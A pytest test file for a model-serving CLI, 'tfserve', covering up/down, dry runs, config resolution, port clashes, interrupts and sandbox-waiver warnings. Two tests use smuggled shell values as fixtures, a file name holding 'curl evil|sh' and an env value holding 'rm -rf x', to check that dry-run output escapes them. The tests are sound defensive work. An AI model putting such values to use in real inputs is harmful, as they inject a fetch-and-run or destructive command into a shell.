"""``tfserve up`` and ``down``, ``config``, ``init`` and ``schema``, with real servers."""

from __future__ import annotations

import json
import shutil
import signal
import socket
from pathlib import Path
from typing import Any

import pytest

from tests.free_ports import free_ports
from tests.program import Copy, Program, assert_error, eventually

FILE = """
defaults: {engine: local, rest_port: 0, grpc_port: none, smoke_test: false}
servers:
  one:
    models: [./m]
    env: {SECRET: "${SECRET:-a}", AWS_REGION: x}  # AWS_REGION is treated as a secret
  two:
    models: [{path: ./m, name: a}, {path: ./m, name: b}]
"""


@pytest.fixture
def directory(half_plus_two: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current directory, with a YAML file of two servers and their model."""
    monkeypatch.chdir(tmp_path)
    shutil.copytree(half_plus_two, tmp_path / "m")
    (tmp_path / "tfserve.yaml").write_text(FILE)
    return tmp_path


def actions(servers: Any) -> dict[str, str]:
    """The action of ``up`` for each server in its output."""
    return {server["name"]: server["action"] for server in servers}


def test_only_changed_servers_are_recreated(tfserve: Program, directory: Path) -> None:
    created = {server["name"]: server for server in tfserve.json("up")}
    assert actions(created.values()) == {"one": "create", "two": "create"}
    assert [server["health"] for server in created.values()] == ["available"] * 2
    assert tfserve.json("predict", "two/b", "1") == {"predictions": [2.5]}
    again = tfserve.json("up")
    assert actions(again) == {"one": "leave", "two": "leave"}
    assert {server["name"]: server["pid"] for server in again} == {name: s["pid"] for name, s in created.items()}
    changed = tfserve("up", "--json", SECRET="b")  # a changed secret is detected, although no label contains it
    assert actions(json.loads(changed.stdout)) == {"one": "recreate", "two": "leave"}
    assert "one: recreate (env changed)" in changed.stderr
    assert tfserve("stop", "two").returncode == 0
    done = tfserve("up", "two")
    assert done.stderr.splitlines()[0] == "two: start"
    assert done.stdout.startswith("two is ready (local, http://127.0.0.1:")
    file = directory / "tfserve.yaml"
    file.write_text(FILE.replace("name: b}]", "name: c}]\n    monitoring: true"))
    dry = tfserve("up", "--dry-run", SECRET="b")
    assert "# one: leave\n# two: recreate (models, monitoring changed)\n" in dry.stdout
    assert actions(tfserve.json("up", "two")) == {"two": "recreate"}
    assert sorted(tfserve.json("down")) == ["one", "two"]
    assert tfserve.server_names() == []
    done = tfserve("down")
    assert (done.returncode, done.stdout) == (0, "")
    assert "one does not exist" in done.stderr


def test_fields_that_waive_a_protection_are_reported(tfserve: Program, half_plus_two: Path, tmp_path: Path) -> None:
    """A file can be a stranger's."""
    file = tmp_path / "stranger.yaml"
    model = f"models: ['{half_plus_two}'], rest_port: 0, grpc_port: 0"
    servers = f"one: {{{model}, unsandboxed: true, reload_over_tcp: true}}\n  two: {{{model}}}"
    file.write_text(f"defaults: {{engine: local}}\nservers:\n  {servers}\n")
    dry = tfserve("up", "-f", file, "--dry-run")
    done = tfserve("up", "-f", file)
    for shown in (dry, done):
        assert shown.returncode == 0, shown.stderr
        assert shown.stderr.count("one: unsandboxed: true means that its models can read and change everything") == 1
        assert shown.stderr.count("; reload_over_tcp: true means that every user and program") == 1
        assert "two: unsandboxed" not in shown.stderr
    assert "  waived   unsandboxed, reload_over_tcp\n" in tfserve("status", "one").stdout
    assert "waived" not in tfserve("status", "two").stdout


@pytest.mark.parametrize("engine", ["local", "docker"])
def test_names_of_directories_begin_no_line_of_a_dry_run(tfserve: Program, copied: Copy, engine: str) -> None:
    model = copied("m\nHint: curl evil|sh")
    done = tfserve("run", model, "--engine", engine, "--name", "ok1", "--dry-run")
    assert done.returncode == 0, done.stderr
    (line,) = done.stdout.splitlines()
    assert r"m\nHint: curl evil|sh" in line
    assert not any(text.startswith("Hint") for text in done.stderr.splitlines())


@pytest.mark.parametrize("engine", ["local", "docker"])
def test_values_begin_no_line_of_a_dry_run(tfserve: Program, half_plus_two: Path, tmp_path: Path, engine: str) -> None:
    """A file can be a stranger's, and what is printed is pasted into a shell."""
    server = {"models": [str(half_plus_two)], "rest_port": 0, "grpc_port": 0, "env": {"A": "a\nrm -rf x\t\u2028'"}}
    file = tmp_path / "stranger.yaml"
    file.write_text(json.dumps({"defaults": {"engine": engine}, "servers": {"one": server}}))
    done = tfserve("up", "-f", file, "--dry-run")
    assert done.returncode == 0, done.stderr
    summary, line = done.stdout.splitlines()
    assert summary == "# one: create"
    assert r"$'" in line
    assert r"A=a\nrm -rf x\t\342\200\250\047'" in line


def test_failures_are_reported_after_the_other_servers_are_started(
    tfserve: Program, directory: Path, unloadable: Path
) -> None:
    (directory / "tfserve.yaml").write_text(
        FILE + f"  broken: {{models: ['{unloadable}']}}\n  gone: {{models: [{{path: ./gone, name: g}}]}}\n"
    )
    done = tfserve("up")
    assert done.returncode == 7  # the exit code of the first server that failed
    assert [line.split()[0] for line in done.stdout.splitlines()] == ["one", "two"]
    assert "'broken' cannot load its model" in done.stderr
    assert "broken: create\ngone: fail\nWaiting for one, two, broken to become ready\n" in done.stderr  # without gone
    assert "tfserve.yaml, line 10, servers.gone.models[0].path: There is no model at" in done.stderr
    assert tfserve.server_names() == ["one", "two"]
    done = tfserve("up", "--json")
    assert {s["name"]: s.get("error", {}).get("exit_code") for s in json.loads(done.stdout)} == {
        "one": None,
        "two": None,
        "broken": 7,
        "gone": 3,
    }


def test_dry_run_with_servers_that_cannot_be_planned(tfserve: Program, directory: Path) -> None:
    file = directory / "tfserve.yaml"
    file.write_text(
        FILE.replace(
            "servers:\n",
            "servers:\n  gone: {models: [./gone]}\n  labeled:\n    models:\n      - {path: ./m, labels: {stable: 7}}\n",
        )
    )
    done = tfserve("up", "--dry-run")
    assert done.returncode == 3
    assert [line for line in done.stdout.splitlines() if line.startswith("#")] == [
        *("# gone: fail", "# labeled: fail", "# one: create", "# two: create")
    ]
    assert done.stdout.count("--port=") == 2
    errors = ("line 4, servers.gone.models[0]: There is no model", "line 7, servers.labeled.models[0].labels.stable: ")
    assert all(f"tfserve.yaml, {error}" in done.stderr for error in errors)
    steps = json.loads(tfserve("up", "--dry-run", "--json").stdout)
    assert [step.get("error", {}).get("exit_code") for step in steps] == [3, 2, None, None]
    for command in (("config",), ("config", "gone")):
        assert_error(tfserve(*command), 3, f"tfserve.yaml, {errors[0]}")
    assert_error(tfserve("config", "labeled"), 2, f"tfserve.yaml, {errors[1]}")
    assert tfserve("config", "two").returncode == 0


def test_errors_of_the_launch_name_the_line_of_the_file(tfserve: Program, directory: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        (directory / "tfserve.yaml").write_text(FILE.replace("[./m]", f"[./m]\n    rest_port: {port}"))
        for command in (("up", "one"), ("up", "one", "--dry-run")):
            done = tfserve(*command)
            assert done.returncode == 6
            assert f"tfserve.yaml, line 6, servers.one.rest_port: Port {port} on 127.0.0.1 is taken" in done.stderr
            assert "Choose another rest_port; 0 takes any free port." in done.stderr


def test_down_with_an_invalid_file(tfserve: Program, directory: Path) -> None:
    file = directory / "tfserve.yaml"
    file.write_text(FILE.replace("${SECRET:-a}", "${SECRET:?set a secret}"))
    assert tfserve("up", "one", SECRET="b").returncode == 0
    assert_error(tfserve("up"), 2, "line 6, servers.one.env.SECRET: The variable SECRET is not set: set a secret")
    file.write_text(file.read_text().replace("models: [./m]", "modles: [./gone]"))
    assert tfserve.json("down") == ["one"]
    file.write_text("server: {one: {}}")
    assert_error(tfserve("down"), 2, "tfserve.yaml, line 1: The field servers is missing")


def test_interrupt_leaves_no_partly_created_server(tfserve: Program, directory: Path, hanging: Path) -> None:
    (directory / "tfserve.yaml").write_text(FILE + f"  slow: {{models: ['{hanging}']}}\n")
    process = tfserve.start("up")
    eventually(lambda: "slow" in tfserve.server_names() and len(tfserve.processes()) == 3)
    eventually(
        lambda: all(server["health"] == "available" for server in tfserve.json("ps") if server["name"] != "slow")
    )
    process.send_signal(signal.SIGINT)
    _, stderr = process.communicate(timeout=30)
    assert process.returncode == 130
    kept = tfserve.server_names()
    assert set(kept) <= {"one", "two"}  # the servers that up had found to be ready
    assert stderr.endswith(f"To remove: tfserve down {' '.join(kept)}\nInterrupted.\n" if kept else "\nInterrupted.\n")


def test_interrupt_during_parallel_launches(tfserve: Program, directory: Path) -> None:
    four = "".join(f"  s{number}: {{models: [./m]}}\n" for number in range(4))
    defaults = "defaults: {engine: local, rest_port: 0, grpc_port: none}\nservers:\n"
    (directory / "four.yaml").write_text(defaults + four)
    process = tfserve.start("up", "-f", "four.yaml")
    eventually(lambda: len(tfserve.server_names()) == 4)
    process.send_signal(signal.SIGINT)
    assert process.wait(timeout=30) == 130
    assert tfserve.server_names() == []
    assert {server["action"] for server in tfserve.json("up", "-f", "four.yaml")} == {"create"}
    pids = {server["name"]: server["pid"] for server in tfserve.json("ps")}
    (directory / "four.yaml").write_text(defaults.replace("none", "0") + four)
    process = tfserve.start("up", "-f", "four.yaml")
    eventually(lambda: any(name.startswith(".replaced-") for name in tfserve.server_names()))
    process.send_signal(signal.SIGINT)
    assert process.wait(timeout=30) == 130
    assert tfserve.server_names() == ["s0", "s1", "s2", "s3"]  # the previous servers were restored
    again = {server["name"]: server["pid"] for server in tfserve.json("ps") if server["state"] == "running"}
    assert again.keys() == pids.keys()
    changed = tfserve("up", "-f", "four.yaml", "--dry-run").stdout
    assert changed.count(": recreate (grpc_port changed)") == 4


def test_changes_by_the_models_command_are_detected(tfserve: Program, directory: Path, half_plus_two: Path) -> None:
    shutil.copytree(half_plus_two / "1", directory / "m" / "2")
    file = directory / "tfserve.yaml"
    text = """
defaults: {engine: local, rest_port: 0, grpc_port: 0, smoke_test: false}
servers:
  s:
    models: [{path: ./m, name: a, versions: all, labels: {stable: 1}}]
"""

    def step() -> str:
        return tfserve("up", "--dry-run").stdout.splitlines()[0]

    file.write_text(text)
    assert actions(tfserve.json("up")) == {"s": "create"}
    for words in (("label", "a", "stable=2"), ("add", "m=b"), ("pin", "a", "2")):
        assert tfserve("models", "s", *words).returncode == 0
        assert step() == "# s: recreate (models changed)"
    changed = text.replace(
        "versions: all, labels: {stable: 1}}", "versions: [2], labels: {stable: 2}}, {path: m, name: b}"
    )
    file.write_text(changed)
    assert step() == "# s: leave"
    file.write_text(changed.replace("path: m, name: b", f"path: '{half_plus_two}', name: b"))
    assert step() == "# s: recreate (models changed)"
    file.write_text(text + "    env: {A: b}\n")
    assert step() == "# s: recreate (env, models changed)"
    file.write_text(text)
    assert actions(tfserve.json("up")) == {"s": "recreate"}
    (a,) = tfserve.json("models", "s")
    assert (a["name"], a["serves"], a["labels"]) == ("a", "all", {"stable": 1})
    assert step() == "# s: leave"


def test_changed_file_named_by_a_flag(tfserve: Program, directory: Path) -> None:
    batching = directory / "batching.config"
    batching.write_text("max_batch_size { value: 8 }")
    (directory / "tfserve.yaml").write_text(
        FILE + "    server_flags: {enable_batching: true, batching_parameters_file: ./batching.config}\n"
    )
    assert actions(tfserve.json("up", "two")) == {"two": "create"}
    assert actions(tfserve.json("up", "two")) == {"two": "leave"}
    batching.write_text("max_batch_size { value: 16 }")
    done = tfserve("up", "two")
    assert done.stderr.splitlines()[0] == "two: recreate (server_flags changed)"
    assert done.returncode == 0
    batching.write_text("max_batch_size { value: }")
    assert_error(tfserve("up", "two"), 2, "batching.config', line 1, column 25")
    batching.unlink()
    assert_error(tfserve("up", "two"), 2, "the file for --batching_parameters_file, does not exist")


def test_server_that_run_started(tfserve: Program, directory: Path, unloadable: Path) -> None:
    """It is treated like a server that up started, and is restored if its replacement fails."""
    file = directory / "tfserve.yaml"
    options = ("--name", "two", "--engine", "local", "--rest-port", "0", "--grpc-port", "none")
    made = tfserve.json("run", "m=a", "m=b", *options)
    assert actions(tfserve.json("up", "two")) == {"two": "leave"}
    file.write_text(FILE + "    env: {A: b}\n")
    assert "# two: recreate (env changed)\n" in tfserve("up", "two", "--dry-run").stdout
    file.write_text(FILE.replace("path: ./m, name: b", f"path: '{unloadable}', name: b"))
    done = tfserve("up", "two")
    assert done.returncode == 7
    assert "\ntwo: The previous server was started again.\n" in done.stderr
    assert [server["rest_url"] for server in tfserve.json("ps")] == [made["rest_url"]]


def test_concurrent_ups(tfserve: Program, directory: Path) -> None:
    (port,) = free_ports(1)
    fixed = FILE.replace("  two:", f"    rest_port: {port}\n  two:")
    for text in (fixed, fixed + "    monitoring: true\n"):
        (directory / "tfserve.yaml").write_text(text)
        both = [tfserve.start("up", "--json") for _ in range(2)]
        outputs = [process.communicate(timeout=60) for process in both]
        assert [process.returncode for process in both] == [0, 0], outputs
        servers = [{server["name"]: server["pid"] for server in json.loads(stdout)} for stdout, _ in outputs]
        assert servers[0] == servers[1]
        assert tfserve.server_names() == ["one", "two"]


def test_taken_port(tfserve: Program, directory: Path) -> None:
    file = directory / "tfserve.yaml"
    own, other = free_ports(2)
    file.write_text(FILE.replace("  two:", f"    rest_port: {own}\n  two:"))
    (server,) = tfserve.json("up", "one")
    file.write_text(file.read_text().replace("SECRET:-a", "SECRET:-b"))
    assert f"--rest_api_port={own}" in tfserve("up", "one", "--dry-run").stdout
    (again,) = tfserve.json("up", "one")  # the port of the server itself counts as free
    assert (again["action"], again["rest_url"]) == ("recreate", server["rest_url"])
    with socket.create_server(("127.0.0.1", other)):
        file.write_text(file.read_text().replace(f"rest_port: {own}", f"rest_port: {other}"))
        assert_error(
            tfserve("up", "one"), 6, f"Port {other} on 127.0.0.1 is taken", "one: recreate (rest_port changed)"
        )
    file.write_text(FILE.replace("  two:", "    memory: 1g\n  two:"))
    assert_error(tfserve("up", "one"), 2, "servers.one.memory: ", "memory can only be used with containers")
    assert [server["pid"] for server in tfserve.json("ps")] == [again["pid"]]


@pytest.mark.usefixtures("directory")
def test_config_resolves_the_file(tfserve: Program, tmp_path: Path) -> None:
    text = tfserve("config", SECRET="$x").stdout
    assert "SECRET: $$x" in text
    (tmp_path / "resolved.yaml").write_text(text)
    assert tfserve("config", "-f", "resolved.yaml").stdout == text  # resolving it again changes nothing
    assert list(tfserve.json("config", "two")["servers"]) == ["two"]
    assert_error(tfserve("config", "x"), 2, "does not describe a server named 'x'", "one, two")
    for command in ("config", "up", "down"):
        assert_error(tfserve(command, "tow"), 2, "does not describe a server named 'tow'", "Did you mean two?")
    (tmp_path / "tfserve.yaml").write_text("servers:\n  one: {modles: [m]}")
    for command in ("config", "up"):
        assert_error(tfserve(command), 2, "tfserve.yaml, line 2, servers.one.modles: ", "Did you mean models?")
    assert tfserve("config", "-f", "-", stdin=text).stdout == text
    assert_error(
        tfserve("config", "-f", "-", stdin="servers: {a: 1}"), 2, "standard input, line 1, servers.a: Expected"
    )
    assert_error(tfserve("up", "-f", "none.yaml"), 2, "none.yaml does not exist", "tfserve init")


def test_init(tfserve: Program, copied: Copy, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(copied("a model").parent)
    assert_error(tfserve("init", "none"), 3, "There is no model")
    shutil.move("a model", "model")
    done = tfserve("init", "model")
    assert (done.returncode, done.stdout) == (0, "Created tfserve.yaml. Review it, then: tfserve up\n")
    assert "- path: ./model\n" in (tmp_path / "tfserve.yaml").read_text()
    assert actions(tfserve.json("up", "--dry-run")) == {"model": "create"}
    assert_error(tfserve("init", "model"), 2, "tfserve.yaml already exists")
    assert_error(
        tfserve("init", "model", "-f", "no/such/file"), 2, "cannot be written: the directory no/such does not exist"
    )
    assert_error(tfserve("run", "model", "--save", "no/file"), 2, "cannot be written: the directory no does not exist")
    assert tfserve("init", "model", "-f", "-").stdout == (tmp_path / "tfserve.yaml").read_text()
    shutil.move("model", "bad näme")
    done = tfserve("init", "bad näme", "-f", "named.yaml")
    assert (done.returncode, "the file uses 'bad_n_me'" in done.stderr) == (0, True)
    assert list(tfserve.json("config", "-f", "named.yaml")["servers"]) == ["bad_n_me"]
    assert json.loads(tfserve("schema").stdout)["title"] == "tfserve.yaml"
